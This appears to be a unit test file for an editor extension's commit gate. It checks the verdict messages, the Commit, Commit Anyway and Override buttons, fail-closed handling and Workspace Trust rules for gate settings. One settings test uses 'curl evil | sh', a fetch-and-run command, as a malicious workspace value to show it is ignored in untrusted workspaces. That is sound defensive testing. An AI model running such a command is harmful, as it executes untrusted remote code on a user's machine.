/**
 * The editor's commit gate without the editor: the short verdict notification and its buttons (Commit only
 * for auto, Commit Anyway only for review or fail-open failures, Override… only for a real escalate), and
 * the gate settings under Workspace Trust.
 * The request itself is src/gate/request.ts (test/unit/gate-request.test.ts).
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { EDITOR_GATE_WORDING } from '../../src/gate/editor-wording';
import { readGateSettings, type GateSettingKey } from '../../src/config/gate-settings';
import { gateVerdict } from '../../src/gate/verdict';
import type { InspectedValue } from '../../src/config/panel-settings';
import { buildGateRequest } from '../../src/gate/request';
import { JevError } from '../../src/judgment/errors';
import { MockProvider } from '../../src/providers/mock/provider';
import { ALL_TOOLS } from '../../src/tools';
import { JudgmentService } from '../../src/tools/judgment-service';
import { DEFAULT_FLOORS } from '../../src/policy/thresholds';

const DIFF = ['diff --git a/src/math.js b/src/math.js', '--- a/src/math.js', '+++ b/src/math.js', '@@ -1 +1,2 @@', ' export const add = (a, b) => a + b;', '+export const sub = (a, b) => a - b;', ''].join('\n');

describe('gate verdict', () => {
  const ok = (result: unknown) => ({ ok: true as const, result, recordId: 'r1' });
  const gateResult = (action: string, extra: Record<string, unknown> = {}) => ({
    action,
    reason_codes: action === 'auto' ? ['accepted'] : ['claims_unsupported'],
    truncated: false,
    coverage: { complete: true },
    review: { action: 'auto', composite: 0.91, safe_to_apply: 0.95 },
    verification: {
      action,
      results: [
        { claim: 'sub subtracts b from a', verdict: 'verified', confidence: 0.97, action: 'auto' },
        { claim: 'the math tests pass', verdict: action === 'auto' ? 'verified' : 'unsupported', confidence: 0.7, action },
      ],
    },
    ...extra,
  });

  it('offers Commit only for auto, Commit Anyway only for review, Override… only for a real escalate', () => {
    const auto = gateVerdict(ok(gateResult('auto')), { failOpen: false });
    assert.deepEqual(auto.choices, ['Commit', 'Open Details']);
    assert.equal(auto.severity, 'info');
    assert.equal(auto.message, 'Jev gate: AUTO — every claim verified and the diff review accepted · claims 2/2 verified.');
    const review = gateVerdict(ok(gateResult('review')), { failOpen: true });
    assert.deepEqual(review.choices, ['Commit Anyway', 'Open Details']);
    assert.equal(review.severity, 'warning');
    assert.equal(review.message, 'Jev gate: REVIEW — "the math tests pass" is not backed by the evidence (confidence 0.70) · claims 1/2 verified.');
    const escalate = gateVerdict(ok(gateResult('escalate')), { failOpen: true });
    assert.deepEqual(escalate.choices, ['Override…', 'Open Details']);
    assert.equal(escalate.severity, 'error');
    const mock = gateVerdict(ok(gateResult('escalate')), { failOpen: false, mock: true });
    assert.deepEqual(mock.choices, ['Open Details'], 'a mock verdict cannot be overridden: it is not one');
    assert.match(mock.message, /^Jev gate \(mock judge, advisory — not a real judgment\): ESCALATE/);
  });

  it('is short: partial coverage is said, the notes go to the details', () => {
    const v = gateVerdict(ok(gateResult('review', { truncated: true, coverage: { complete: false, original_chars: 1000, evaluated_chars: 300 } })), {
      failOpen: false,
      notes: ['the staged diff was cut'],
    });
    assert.match(v.message, /Partial input \(30% judged\): never auto\.$/);
    assert.doesNotMatch(v.message, /staged diff was cut/);
    assert.deepEqual(v.details, ['The staged diff was cut.']);
  });

  it('fails closed on a judge failure; fail-open adds Commit Anyway only for judge failures, never Commit', () => {
    const down = { ok: false as const, error: new JevError('API_ERROR', 'upstream 503'), recordId: 'r2' };
    const closed = gateVerdict(down, { failOpen: false });
    assert.deepEqual(closed.choices, ['Open Details']);
    assert.match(closed.message, /failed closed: API_ERROR: upstream 503 Nothing was approved\./);
    const open = gateVerdict(down, { failOpen: true });
    assert.deepEqual(open.choices, ['Commit Anyway', 'Open Details']);
    assert.match(open.message, /UNJUDGED/);
    for (const code of ['INVALID_INPUT', 'CONFIG_ERROR', 'CANCELLED', 'INPUT_TOO_LARGE'] as const) {
      assert.deepEqual(gateVerdict({ ok: false, error: new JevError(code, 'x') }, { failOpen: true }).choices, [], code);
    }
  });

  it('reads a real jev_gate result of the mock judge', async () => {
    const service = new JudgmentService({ provider: new MockProvider(), tools: ALL_TOOLS, floors: DEFAULT_FLOORS, model: 'jev-latest' });
    const req = buildGateRequest({ message: 'Add sub()\n\n- sub subtracts b from a', diff: DIFF }, EDITOR_GATE_WORDING);
    const outcome = await service.call('jev_gate', req.input, { agent: 'editor' });
    assert.ok(outcome.ok);
    const v = gateVerdict({ ok: true, result: outcome.result, recordId: outcome.record.id }, { failOpen: false, notes: req.notes, mock: true });
    const action = (outcome.result as { action: string }).action;
    assert.equal(v.action, action);
    assert.ok(v.message.startsWith(`Jev gate (mock judge, advisory — not a real judgment): ${action.toUpperCase()} — `), v.message);
    assert.equal(v.choices.includes('Commit'), action === 'auto');
  });
});

describe('gate settings', () => {
  const inspect = (values: Partial<Record<GateSettingKey, InspectedValue>>) => (key: GateSettingKey) => values[key];

  it('uses defaults when nothing is set (fail-closed, no command, 120 s)', () => {
    assert.deepEqual(readGateSettings(inspect({}), true), { evidenceTimeoutMs: 120_000, failOpen: false, problems: [] });
  });

  it('uses workspace values only in a trusted workspace', () => {
    const values = {
      'gate.evidenceCommand': { globalValue: 'npm test', workspaceValue: 'curl evil | sh' },
      'gate.failOpen': { workspaceValue: true },
      'gate.evidenceTimeoutMs': { globalValue: 5000 },
    };
    const trusted = readGateSettings(inspect(values), true);
    assert.equal(trusted.evidenceCommand, 'curl evil | sh');
    assert.equal(trusted.failOpen, true);
    const untrusted = readGateSettings(inspect(values), false);
    assert.equal(untrusted.evidenceCommand, 'npm test');
    assert.equal(untrusted.failOpen, false);
    assert.equal(untrusted.evidenceTimeoutMs, 5000);
    assert.deepEqual(untrusted.problems.map((p) => p.split(':')[0]), ['jevPanel.gate.evidenceCommand', 'jevPanel.gate.failOpen']);
  });

  it('names bad values and falls back', () => {
    const s = readGateSettings(
      inspect({ 'gate.evidenceCommand': { globalValue: 'a\nb' }, 'gate.evidenceTimeoutMs': { globalValue: 0 }, 'gate.failOpen': { globalValue: 'yes' } }),
      true,
    );
    assert.deepEqual(s, {
      evidenceTimeoutMs: 120_000,
      failOpen: false,
      problems: [
        'jevPanel.gate.evidenceCommand: must be a single line (no line breaks or NUL); using no evidence command',
        'jevPanel.gate.evidenceTimeoutMs: must be a positive whole number of milliseconds; using 120000',
        'jevPanel.gate.failOpen: must be true or false; using false (fail-closed)',
      ],
    });
  });
});
